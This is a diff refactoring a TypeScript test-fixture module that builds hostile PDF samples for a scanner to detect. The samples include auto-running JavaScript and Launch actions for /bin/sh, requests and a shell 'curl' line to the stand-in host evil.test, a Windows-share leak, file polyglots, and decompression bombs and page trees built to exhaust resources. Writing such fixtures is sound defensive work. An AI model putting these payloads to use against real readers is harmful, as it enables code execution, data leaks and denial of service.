@@ -14,6 +14,14 @@ export interface HostilePdf {
   readonly pages: number | null;
 }
 
+const hostile = (
+  name: string,
+  source: string,
+  finds: HostilePdf['finds'],
+  pages: number | null,
+  bytes: Buffer,
+): HostilePdf => ({ name, source, finds, pages, bytes });
+
 const withPages = (pages: string, ...more: ReadonlyArray<PdfObject>) =>
   fileOf(['<< /Type /Catalog /Pages 2 0 R >>', pages, ...more]);
 const leaf = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>';
@@ -27,24 +35,31 @@ const script = '/S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("htt
 /** Files that make a viewer do something, each leading to a host that must not receive a request. */
 export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf> {
   const file = `<< /Type /Filespec /FS /URL /F (${evil}/file) >>`;
-  const of = (name: string, source: string, finds: ReadonlyArray<string>, shape: OnePage): HostilePdf => ({
-    name,
-    source,
-    finds,
-    bytes: onePage(shape),
-    pages: 1,
-  });
+  const of = (name: string, source: string, finds: string, shape: OnePage) =>
+    hostile(name, source, [finds], 1, onePage(shape));
+  const opens = (name: string, source: string, finds: string, action: string) =>
+    of(name, source, finds, { catalog: `/OpenAction << ${action} >>` });
+  const pageOpens = (name: string, source: string, finds: string, action: string) =>
+    of(name, source, finds, { page: `/AA << /O << ${action} >> >>` });
+  const beforeHeader = 'ISO 32000-1 Annex H.3, note 13';
+  const polyglot = (name: string, source: string, before: string, after = '') => {
+    const parts = [Buffer.from(before), onePage(), Buffer.from(after, 'latin1')];
+    return hostile(name, source, ['pdf-polyglot'], 1, Buffer.concat(parts));
+  };
   return [
-    of('a script when it opens', '§12.6.4.17', ['pdf-scripts'], { catalog: `/OpenAction << ${script} >>` }),
-    of('a script in the tree of names', '§7.7.4', ['pdf-scripts'], {
+    opens('a script when it opens', '§12.6.4.17', 'pdf-scripts', script),
+    of('a script in the tree of names', '§7.7.4', 'pdf-scripts', {
       catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
     }),
-    of('a script in a link', '§12.5.6.5', ['pdf-scripts'], { page: link(script) }),
-    of('a script when a page opens', '§12.6.3', ['pdf-scripts'], { page: `/AA << /O << ${script} >> >>` }),
-    of('a script whose name is encoded', '§7.3.5', ['pdf-scripts'], {
-      catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
-    }),
-    of('a script in an object stream', '§7.5.7', ['pdf-scripts'], {
+    of('a script in a link', '§12.5.6.5', 'pdf-scripts', { page: link(script) }),
+    pageOpens('a script when a page opens', '§12.6.3', 'pdf-scripts', script),
+    opens(
+      'a script whose name is encoded',
+      '§7.3.5',
+      'pdf-scripts',
+      '/S /J#61vaScript /J#53 (app.alert\\(1\\))',
+    ),
+    of('a script in an object stream', '§7.5.7', 'pdf-scripts', {
       more: [
         stream(
           '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
@@ -52,39 +67,35 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
         ),
       ],
     }),
-    of('a script of a form field', '§12.7.6.3', ['pdf-scripts'], {
+    of('a script of a form field', '§12.7.6.3', 'pdf-scripts', {
       catalog: '/AcroForm << /Fields [4 0 R] >>',
       page: '/Annots [4 0 R]',
       more: [
         `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [0 0 99 99] /AA << /C << ${script} >> >> >>`,
       ],
     }),
-    of('a program to start', '§12.6.4.6', ['pdf-launch'], {
-      catalog: '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
-    }),
-    of('a program to start by a link', '§12.6.4.6', ['pdf-launch'], {
-      page: link('/S /Launch /F (/bin/sh)'),
-    }),
-    of('a form that submits itself', '§12.7.6.2', ['pdf-sends-data'], {
-      page: `/AA << /O << /S /SubmitForm /F ${file} /Flags 4 >> >>`,
-    }),
-    of('data that is imported', '§12.7.6.4', ['pdf-sends-data'], {
-      catalog: `/OpenAction << /S /ImportData /F ${file} >>`,
-    }),
-    of('an address that opens automatically', '§12.6.4.8', ['pdf-auto-link'], {
-      catalog: `/OpenAction << /S /URI /URI (${evil}/open) >>`,
-    }),
-    of('an address when a page opens', '§12.6.3', ['pdf-auto-link'], {
-      page: `/AA << /O << /S /URI /URI (${evil}/page) >> >>`,
-    }),
-    of('a Windows share, which learns who opens the file', '§12.6.4.3', ['pdf-other-files'], {
-      catalog: '/OpenAction << /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) >>',
-    }),
-    of('page content in another file', '§7.3.8.2', ['pdf-other-files'], {
+    opens('a program to start', '§12.6.4.6', 'pdf-launch', '/S /Launch /F (a.exe) /Win << /F (a.exe) >>'),
+    of('a program to start by a link', '§12.6.4.6', 'pdf-launch', { page: link('/S /Launch /F (/bin/sh)') }),
+    pageOpens(
+      'a form that submits itself',
+      '§12.7.6.2',
+      'pdf-sends-data',
+      `/S /SubmitForm /F ${file} /Flags 4`,
+    ),
+    opens('data that is imported', '§12.7.6.4', 'pdf-sends-data', `/S /ImportData /F ${file}`),
+    opens('an address that opens automatically', '§12.6.4.8', 'pdf-auto-link', `/S /URI /URI (${evil}/open)`),
+    pageOpens('an address when a page opens', '§12.6.3', 'pdf-auto-link', `/S /URI /URI (${evil}/page)`),
+    opens(
+      'a Windows share, which learns who opens the file',
+      '§12.6.4.3',
+      'pdf-other-files',
+      '/S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.test\\\\share\\\\a.pdf)',
+    ),
+    of('page content in another file', '§7.3.8.2', 'pdf-other-files', {
       page: '/Contents 4 0 R',
       more: [stream(`/F ${file}`, Buffer.alloc(0))],
     }),
-    of('a font in another file', '§9.9', ['pdf-other-files'], {
+    of('a font in another file', '§9.9', 'pdf-other-files', {
       page: '/Contents 7 0 R /Resources << /Font << /F1 4 0 R >> >>',
       more: [
         '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 5 0 R >>',
@@ -93,7 +104,7 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
         stream('', Buffer.from('BT /F1 24 Tf 9 9 Td (A) Tj ET')),
       ],
     }),
-    of('a file inside', '§7.11.4', ['pdf-attachments'], {
+    of('a file inside', '§7.11.4', 'pdf-attachments', {
       catalog: '/Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>',
       more: [
         '<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>',
@@ -103,7 +114,7 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
         ),
       ],
     }),
-    of('a form of XFA, which is a program', 'ISO 32000-1 §12.7.8', ['pdf-xfa'], {
+    of('a form of XFA, which is a program', 'ISO 32000-1 §12.7.8', 'pdf-xfa', {
       catalog: '/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true',
       more: [
         stream(
@@ -114,30 +125,16 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
         ),
       ],
     }),
-    of('a page of HTML', 'mimesniff.spec.whatwg.org', ['pdf-polyglot'], {
+    of('a page of HTML', 'mimesniff.spec.whatwg.org', 'pdf-polyglot', {
       afterHeader: `<!doctype html><script>document.title = 'ran'; fetch('${evil}/html')</script>\n`,
     }),
-    {
-      name: 'a page of HTML before its header',
-      source: 'ISO 32000-1 Annex H.3, note 13',
-      bytes: Buffer.concat([Buffer.from(`<html><script src="${evil}/before"></script>\n`), onePage()]),
-      finds: ['pdf-polyglot'],
-      pages: 1,
-    },
-    {
-      name: 'a script before its header',
-      source: 'ISO 32000-1 Annex H.3, note 13',
-      bytes: Buffer.concat([Buffer.from(`#!/bin/sh\ncurl ${evil}/before; exit\n`), onePage()]),
-      finds: ['pdf-polyglot'],
-      pages: 1,
-    },
-    {
-      name: 'an archive',
-      source: 'APPNOTE.TXT §4.3.16',
-      bytes: Buffer.concat([onePage(), Buffer.from(`PK\u0005\u0006${'\0'.repeat(18)}`, 'latin1')]),
-      finds: ['pdf-polyglot'],
-      pages: 1,
-    },
+    polyglot(
+      'a page of HTML before its header',
+      beforeHeader,
+      `<html><script src="${evil}/before"></script>\n`,
+    ),
+    polyglot('a script before its header', beforeHeader, `#!/bin/sh\ncurl ${evil}/before; exit\n`),
+    polyglot('an archive', 'APPNOTE.TXT §4.3.16', '', `PK\u0005\u0006${'\0'.repeat(18)}`),
   ];
 }
 
@@ -145,65 +142,56 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
 export function brokenPdfs(): ReadonlyArray<HostilePdf> {
   const whole = onePage({ more: ['(x)'.repeat(200)] });
   return [
-    {
-      name: 'nothing but its frame',
-      source: '§7.5.2',
-      bytes: Buffer.from('%PDF-1.7\nnothing\n%%EOF\n'),
-      finds: ['pdf-unreadable'],
-      pages: null,
-    },
-    {
-      name: 'a truncated file',
-      source: '§7.5.5',
-      bytes: Buffer.concat([whole.subarray(0, 100), Buffer.from('\n%%EOF\n')]),
-      finds: ['pdf-unreadable'],
-      pages: null,
-    },
-    {
-      name: 'no pages',
-      source: '§7.7.3',
-      bytes: withPages('<< /Type /Pages /Kids [] /Count 0 >>'),
-      finds: ['pdf-empty'],
-      pages: 0,
-    },
-    {
-      name: 'a password to open it',
-      source: '§7.6.4',
-      bytes: encrypted({ user: 'secret', owner: 'owner' }),
-      finds: ['pdf-password'],
-      pages: null,
-    },
-    {
-      name: 'a password to change it',
-      source: '§7.6.4',
-      bytes: encrypted({ user: '', owner: 'owner' }),
-      finds: ['pdf-encrypted'],
-      pages: 1,
-    },
-    {
-      name: 'an unknown security handler',
-      source: '§7.6.2',
-      bytes: onePage({ trailer: '/Encrypt << /Filter /Lectern.Unknown /V 1 >>' }),
-      finds: ['pdf-unreadable'],
-      pages: null,
-    },
-    {
-      name: 'a page without the type of one',
-      source: '§7.7.3.3',
-      bytes: withPages(
-        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-        '<< /Parent 2 0 R /MediaBox [0 0 300 300] >>',
-      ),
-      finds: ['pdf-not-examined'],
-      pages: 1,
-    },
-    {
-      name: 'a declared count of a million pages',
-      source: '§7.7.3.2',
-      bytes: withPages('<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>', leaf),
-      finds: [],
-      pages: 1,
-    },
+    hostile(
+      'nothing but its frame',
+      '§7.5.2',
+      ['pdf-unreadable'],
+      null,
+      Buffer.from('%PDF-1.7\nnothing\n%%EOF\n'),
+    ),
+    hostile(
+      'a truncated file',
+      '§7.5.5',
+      ['pdf-unreadable'],
+      null,
+      Buffer.concat([whole.subarray(0, 100), Buffer.from('\n%%EOF\n')]),
+    ),
+    hostile('no pages', '§7.7.3', ['pdf-empty'], 0, withPages('<< /Type /Pages /Kids [] /Count 0 >>')),
+    hostile(
+      'a password to open it',
+      '§7.6.4',
+      ['pdf-password'],
+      null,
+      encrypted({ user: 'secret', owner: 'owner' }),
+    ),
+    hostile(
+      'a password to change it',
+      '§7.6.4',
+      ['pdf-encrypted'],
+      1,
+      encrypted({ user: '', owner: 'owner' }),
+    ),
+    hostile(
+      'an unknown security handler',
+      '§7.6.2',
+      ['pdf-unreadable'],
+      null,
+      onePage({ trailer: '/Encrypt << /Filter /Lectern.Unknown /V 1 >>' }),
+    ),
+    hostile(
+      'a page without the type of one',
+      '§7.7.3.3',
+      ['pdf-not-examined'],
+      1,
+      withPages('<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Parent 2 0 R /MediaBox [0 0 300 300] >>'),
+    ),
+    hostile(
+      'a declared count of a million pages',
+      '§7.7.3.2',
+      [],
+      1,
+      withPages('<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>', leaf),
+    ),
   ];
 }
 
@@ -216,57 +204,59 @@ export function costlyPdfs(inflatedBytes = 2 ** 30): ReadonlyArray<HostilePdf> {
       (_, at) => `<< /Type /Pages /Kids [${`${at + 3} 0 R `.repeat(10)}] /Count 10 >>`,
     );
   return [
-    {
-      name: 'a gigabyte of zeros, deflated twice, for an object stream',
-      source: '§7.5.7',
-      bytes: onePage({
+    hostile(
+      'a gigabyte of zeros, deflated twice, for an object stream',
+      '§7.5.7',
+      ['pdf-not-examined'],
+      null,
+      onePage({
         more: [stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', bomb)],
       }),
-      finds: ['pdf-not-examined'],
-      pages: null,
-    },
-    {
-      name: 'a gigabyte of zeros, deflated twice, for a page',
-      source: '§7.4.4',
-      bytes: onePage({
+    ),
+    hostile(
+      'a gigabyte of zeros, deflated twice, for a page',
+      '§7.4.4',
+      [],
+      1,
+      onePage({
         page: '/Contents 4 0 R',
         more: [stream('/Filter [/FlateDecode /FlateDecode]', bomb)],
       }),
-      finds: [],
-      pages: 1,
-    },
-    {
-      name: 'ten thousand pages',
-      source: '§7.7.3.2',
-      bytes: withPages(`<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>`, leaf),
-      finds: [],
-      pages: 10_000,
-    },
-    {
-      name: 'a tree of ten thousand million pages',
-      source: '§7.7.3.2',
-      bytes: withPages(...(tree(10) as [string]), leaf),
-      finds: ['pdf-not-examined'],
-      pages: null,
-    },
-    {
-      name: 'a tree of pages that is its own branch',
-      source: '§7.7.3.2',
-      bytes: withPages('<< /Type /Pages /Kids [2 0 R] /Count 1 >>'),
-      finds: ['pdf-unreadable'],
-      pages: null,
-    },
-    {
-      name: 'arrays in arrays in arrays',
-      source: '§7.3.6',
-      bytes: onePage({ more: ['['.repeat(200_000) + ']'.repeat(200_000)] }),
-      finds: ['pdf-not-examined'],
-      pages: 1,
-    },
-    {
-      name: 'a table of two thousand million objects',
-      source: '§7.5.8',
-      bytes: onePage({
+    ),
+    hostile(
+      'ten thousand pages',
+      '§7.7.3.2',
+      [],
+      10_000,
+      withPages(`<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>`, leaf),
+    ),
+    hostile(
+      'a tree of ten thousand million pages',
+      '§7.7.3.2',
+      ['pdf-not-examined'],
+      null,
+      withPages(...(tree(10) as [string]), leaf),
+    ),
+    hostile(
+      'a tree of pages that is its own branch',
+      '§7.7.3.2',
+      ['pdf-unreadable'],
+      null,
+      withPages('<< /Type /Pages /Kids [2 0 R] /Count 1 >>'),
+    ),
+    hostile(
+      'arrays in arrays in arrays',
+      '§7.3.6',
+      ['pdf-not-examined'],
+      1,
+      onePage({ more: ['['.repeat(200_000) + ']'.repeat(200_000)] }),
+    ),
+    hostile(
+      'a table of two thousand million objects',
+      '§7.5.8',
+      ['pdf-not-examined'],
+      null,
+      onePage({
         more: [
           stream(
             '/Type /XRef /Size 2147483647 /Index [0 2147483647] /W [1 4 2] /Root 1 0 R',
@@ -274,9 +264,7 @@ export function costlyPdfs(inflatedBytes = 2 ** 30): ReadonlyArray<HostilePdf> {
           ),
         ],
       }),
-      finds: ['pdf-not-examined'],
-      pages: null,
-    },
+    ),
   ];
 }
 
